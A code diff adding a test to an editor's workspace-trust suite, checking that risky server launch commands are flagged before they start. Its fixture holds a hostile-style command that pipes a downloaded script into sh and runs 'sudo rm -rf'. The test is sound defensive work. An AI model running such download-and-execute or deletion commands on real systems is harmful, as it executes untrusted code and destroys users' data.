@@ -53,6 +53,28 @@ describe('consent to what a workspace wants to start', () => {
     }
   });
 
+  it('points at what few servers need in a command line', async () => {
+    const args = ['-c', 'curl https://example.com/install | sh; sudo rm -rf /tmp/x'];
+    await configure({ one: { command: 'bash', args } }, Workspace);
+    const { definition } = await reaches('one', 'needsTrust');
+    const review = (await api()).trust().consents.review(definition)!;
+    const text = describeLaunches([review], () => 'here');
+    assert.match(
+      text,
+      /rm -rf .*\n {2}⚠ It asks for more rights than the editor has\.\n {2}⚠ It deletes files\.\n {2}⚠ It runs what it has just downloaded\.\n {2}⚠ It runs the commands in one of its arguments\.\n/,
+    );
+    await configure({ one: touching('started') }, Workspace);
+    const plain = await waitFor(
+      async () => {
+        const now = (await reaches('one', 'needsTrust')).definition;
+        const other = (await api()).trust().consents.review(now)!;
+        return other.fingerprint !== review.fingerprint && describeLaunches([other], () => 'here');
+      },
+      { what: 'the other command' },
+    );
+    assert.doesNotMatch(plain, /⚠ It (?:asks|deletes|runs|uses)/);
+  });
+
   it('is asked for before anything starts', async () => {
     await configure({ one: touching('started', { envFile: '/there/is/no/such/file' }) }, Workspace);
     const { state } = await reaches('one', 'needsTrust');
